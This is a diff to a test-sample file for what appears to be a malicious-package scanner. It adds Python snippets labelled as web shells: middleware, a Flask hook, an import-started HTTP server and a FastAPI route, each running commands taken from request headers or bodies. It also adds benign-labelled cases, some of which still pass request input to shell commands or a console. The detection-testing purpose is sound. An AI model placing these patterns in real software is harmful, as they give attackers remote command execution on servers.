@@ -119,6 +119,34 @@ export const samples: Samples = {
       ),
       expected: [at('reverse-shell', 'critical', 'setup.js', 2)],
     },
+    {
+      name: 'Python: a middleware that runs a header',
+      files: wheel(
+        'import subprocess\nclass Probe:\n    def __init__(self, get_response):\n        self.get_response = get_response\n    def __call__(self, request):\n        if request.headers.get("X-Probe"):\n            return subprocess.getoutput(request.headers["X-Probe"])\n        return self.get_response(request)\n',
+      ),
+      expected: [at('web-shell', 'high', 'own/__init__.py', 7)],
+    },
+    {
+      name: 'Python: a page of an extension',
+      files: wheel(
+        'from flask import request\ndef page():\n    exec(request.headers["X-Probe"])\ndef init_app(app):\n    app.before_request(page)\n',
+      ),
+      expected: [at('web-shell', 'high', 'own/__init__.py', 3)],
+    },
+    {
+      name: 'Python: a server that loading the package starts',
+      files: wheel(
+        'import os, threading\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nclass Own(BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.system(self.headers["X-Probe"])\nthreading.Thread(target=HTTPServer(("", 8080), Own).serve_forever, daemon=True).start()\n',
+      ),
+      expected: [at('web-shell', 'high', 'own/__init__.py', 5)],
+    },
+    {
+      name: 'Python: a program that listens to be told what to run',
+      files: wheel(
+        'import os\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.post("/run")\ndef run(line: str):\n    return os.system(line)\n',
+      ),
+      expected: [at('web-shell', 'medium', 'own/__init__.py', 6)],
+    },
   ],
   benign: [
     quiet(
@@ -147,6 +175,36 @@ export const samples: Samples = {
       'a connection through another one, which is given in place',
       imported(
         `const net = require('net'), tls = require('tls'), WebSocket = require('ws');\nnew WebSocket('wss://a.weir.test/news');\nconst first = net.connect(exports.port, exports.host);\nfirst.once('connect', () => tls.connect({ ...exports.settings, socket: first }));\n`,
+      ),
+    ),
+    quiet(
+      'Python: a view that runs one of its commands',
+      wheel(
+        'import subprocess\nTASKS = {"status": ["git", "status"], "log": ["git", "log"]}\ndef view(request):\n    return subprocess.check_output(TASKS[request.GET["task"]])\n',
+      ),
+    ),
+    quiet(
+      'Python: a view that asks a program about a file',
+      wheel(
+        'import subprocess\ndef view(request):\n    return subprocess.check_output(["git", "log", "--", request.GET["file"]])\n',
+      ),
+    ),
+    quiet(
+      'Python: a runner of what its callers hand over',
+      wheel(
+        'import subprocess\nclass Runner:\n    def run(self, request):\n        return subprocess.run(request.args, cwd=request.path)\n',
+      ),
+    ),
+    quiet(
+      'Python: a job of a store that a page starts',
+      wheel(
+        'import subprocess\nfrom .models import Job\ndef view(request, pk):\n    return subprocess.run(Job.objects.get(pk=request.POST["job"]).command, shell=True)\n',
+      ),
+    ),
+    quiet(
+      'Python: the console of a page that shows errors',
+      wheel(
+        'import code\ndef view(request):\n    return code.InteractiveConsole().push(request.GET["line"])\n',
       ),
     ),
     quiet(
